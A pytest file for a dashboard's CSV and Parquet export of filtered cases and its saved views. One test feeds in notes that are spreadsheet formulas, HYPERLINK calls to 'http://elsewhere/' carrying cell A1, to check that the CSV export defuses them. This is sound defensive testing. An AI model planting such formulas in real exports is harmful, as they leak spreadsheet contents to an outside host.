"""The filtered list as a file, and the saved views, without a browser."""

import csv
import io
import re
from math import inf

import pyarrow.parquet
import pytest

import db.engine
import db.migrate
import db.read
from dashapp.app import create_app
from dashapp.pages.cases import saved
from db import annotations
from db.forms import Column, csv_pieces
from tests.support import database


@pytest.fixture(scope="module")
def engine(fresh):
    engine = fresh()
    database.fill(engine, per_group=4, references=60)
    with db.engine.writing(engine) as connection:
        annotations.add_tag(connection, 9, "sky")
        annotations.add_tag(connection, 9, "odd")
        annotations.set_note(connection, 9, 'two lines,\n"quoted"')
    return engine


@pytest.fixture(scope="module")
def client(engine):
    return create_app(engine, base_path="/pixels/").server.test_client()


def shown(engine, search):
    return [row.id for row in db.read.list_cases(engine, *db.read.case_query(engine, search)).rows]


def test_the_list_is_exported_as_it_is_filtered_and_sorted(engine, client):
    search = "?partition=all&kind=adversarial&sort=-confidence,true"
    answer = client.get("/pixels/export/cases.csv" + search)
    assert answer.headers["Content-Disposition"] == "attachment; filename=cases.csv"
    rows = list(csv.DictReader(io.StringIO(answer.text)))
    assert [int(row["case_id"]) for row in rows] == shown(engine, search)
    assert [float(row["confidence"]) for row in rows] == sorted(
        (float(row["confidence"]) for row in rows), reverse=True
    )


def test_both_forms_have_the_same_rows_and_what_people_wrote(client):
    plain = list(csv.DictReader(io.StringIO(client.get("/pixels/export/cases.csv?find=9-12").text)))
    answer = client.get("/pixels/export/cases.parquet?find=9-12")
    table = pyarrow.parquet.read_table(io.BytesIO(answer.data))
    assert table.column_names == list(plain[0])
    assert table["case_id"].to_pylist() == [int(row["case_id"]) for row in plain] == [9, 10, 11, 12]
    assert table.schema.field("confidence").type == "double"
    first = table.to_pylist()[0]
    assert (first["tags"], first["note"]) == ("odd, sky", 'two lines,\n"quoted"')
    assert (plain[0]["tags"], plain[0]["note"]) == (first["tags"], first["note"])
    assert first["verdict"] is None


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "＝"])
def test_a_note_that_is_a_formula_is_none_in_the_csv_and_itself_in_parquet(engine, client, sign):
    formula = sign + 'HYPERLINK("http://elsewhere/?"&A1)'
    with db.engine.writing(engine) as connection:
        annotations.set_note(connection, 10, formula)
    (row,) = csv.DictReader(io.StringIO(client.get("/pixels/export/cases.csv?find=10").text))
    assert row["note"] == "'" + formula
    parquet = client.get("/pixels/export/cases.parquet?find=10").data
    assert pyarrow.parquet.read_table(io.BytesIO(parquet))["note"].to_pylist() == [formula]


def test_numbers_and_what_begins_otherwise_stay_as_they_are_in_the_csv():
    rows = [(-1.5, -2, None, True, "a-b", "'=quoted", "", -inf)]
    _, lines = csv_pieces([Column(name) for name in "abcdefgh"], [rows], for_spreadsheets=True)
    assert lines == b"-1.5,-2,,1,a-b,'=quoted,,-Infinity\r\n"


def test_a_list_without_cases_is_a_file_without_rows(client):
    assert len(list(csv.reader(io.StringIO(client.get("/pixels/export/cases.csv?find=9999").text)))) == 1
    empty = client.get("/pixels/export/cases.parquet?find=9999").data
    assert pyarrow.parquet.read_table(io.BytesIO(empty)).num_rows == 0


def test_an_export_of_an_address_that_means_nothing_is_refused_in_one_line(client):
    answer = client.get("/pixels/export/cases.csv?true=cart")
    assert (answer.status_code, answer.mimetype) == (400, "text/plain")
    assert answer.text.count("\n") == 1
    assert "true 'cart'" in answer.text
    assert client.get("/pixels/export/cases.xlsx").status_code == 404


def test_a_view_is_saved_or_the_reason_why_not_is_said(engine):
    app = create_app(engine, writer=engine)
    assert "No saved views" in str(saved.views(app, engine))
    assert "mine" in str(saved.changed(app, engine, engine, "mine", "?kind=clean", None))
    assert "expected 1 to 60" in str(saved.changed(app, engine, engine, "", "", None))
    reading = db.engine.create(db.migrate.name(engine), read_only=True)
    refused = str(saved.changed(app, reading, reading, "other", "", None))
    assert re.search("Nothing was changed: .* read-?only", refused)
    assert "mine" in refused
    assert saved.READ_ONLY in str(saved.saved(app, reading, writable=False))
    reading.dispose()
